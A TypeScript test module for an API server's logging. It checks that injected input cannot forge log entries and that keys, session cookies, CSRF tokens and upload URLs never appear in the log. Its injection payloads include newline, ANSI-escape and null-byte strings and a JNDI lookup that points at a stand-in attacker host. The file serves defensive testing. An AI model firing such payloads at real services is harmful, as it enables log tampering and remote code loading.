import assert from 'node:assert/strict';
import { type Attempt, attemptsOf, type Kind } from '../kind.ts';

const FORGED_LINES: Record<string, string> = {
  'a separate line': '\n{"level":50,"msg":"FORGED"}',
  'a carriage return': '\r{"level":50,"msg":"FORGED"}',
  'the end of a text': '","level":50,"msg":"FORGED","x":"',
  'terminal colours': '\u001b[2J\u001b[31mFORGED',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
  'a look-up': '${jndi:ldap://evil.example/FORGED}',
  'a null byte': '\u0000FORGED',
};

export const forgedLogs: Kind = {
  name: 'log: forged lines, leaked secrets',
  isSequential: true,
  attempts: (target) => {
    const forged = attemptsOf<string, (text: string) => Promise<unknown>>(
      Object.entries(FORGED_LINES),
      [
        ['a path', (text) => target.call(`/v2/${encodeURIComponent(text)}`)],
        ['a query', (text) => target.attacker.call(`/v2/videos?status=${encodeURIComponent(text)}`)],
        [
          'a field',
          (text) =>
            target.attacker.call('/v2/create_video_from_avatar', {
              method: 'POST',
              body: { aspect_ratio: text },
            }),
        ],
        [
          'a browser’s name',
          (text) => target.call('/v2/none', { headers: { 'user-agent': encodeURIComponent(text) } }),
        ],
      ],
      async (text, where) => {
        await where(text);
        // Each line is one JSON entry without terminal control characters.
        const entries = target.server.stderr().split('\n').slice(0, -1);
        for (const entry of entries) {
          const { msg } = JSON.parse(entry);
          assert.notEqual(msg, 'FORGED');
          assert.ok(![...entry].some((letter) => letter < ' '));
        }
      },
    );
    const secrets: [string, () => string][] = [
      ['a key', () => target.victim.key],
      ['a session', () => target.victim.session.cookie.split('=')[1] ?? ''],
      ['a CSRF token', () => target.victim.session.csrf],
      ['the password of the owner', () => 'a sentence to remember'],
    ];
    const leaked = secrets.map(
      ([what, secret]): Attempt => [
        `${what} in the log`,
        async () => {
          await target.victim.call('/v2/none', { headers: { 'x-secret': secret() } });
          assert.ok(!target.server.stderr().includes(secret()));
        },
      ],
    );
    const uploads: Attempt = [
      'the address of an upload in the log',
      async () => {
        const body = { filename: 'a.png' };
        const asset = (await target.victim.call('/v1/upload/asset', { method: 'POST', body })).body.data;
        const { pathname } = new URL(asset.sign_url);
        await target.call(pathname, { method: 'PUT', body: 'nothing of use' });
        assert.ok(!target.server.stderr().includes(pathname));
      },
    ];
    return [...forged, ...leaked, uploads];
  },
};
